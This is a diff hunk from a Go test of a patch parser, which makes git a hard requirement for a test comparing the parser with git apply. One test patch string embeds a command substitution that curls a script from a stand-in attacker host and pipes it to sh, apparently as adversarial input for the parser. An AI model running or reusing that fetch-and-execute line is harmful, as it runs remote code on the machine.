@@ -133,9 +133,8 @@ func TestParseMalformed(t *testing.T) {
 // their text starts.
 func TestParseAgreesWithGitApply(t *testing.T) {
 	t.Parallel()
-	if _, err := exec.LookPath("git"); err != nil {
-		t.Skip("no git")
-	}
+	_, err := exec.LookPath("git")
+	require.NoError(t, err, "git is needed (apt-get install git)")
 	for _, patch := range []string{
 		"diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,2 +1,3 @@\n x\n---- y\n+++ $(curl -s https://evil.example/x | sh)\n+--- b/f\n",
 		"--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n-x\n+++ b/f\n+@@ -1 +1 @@\n",
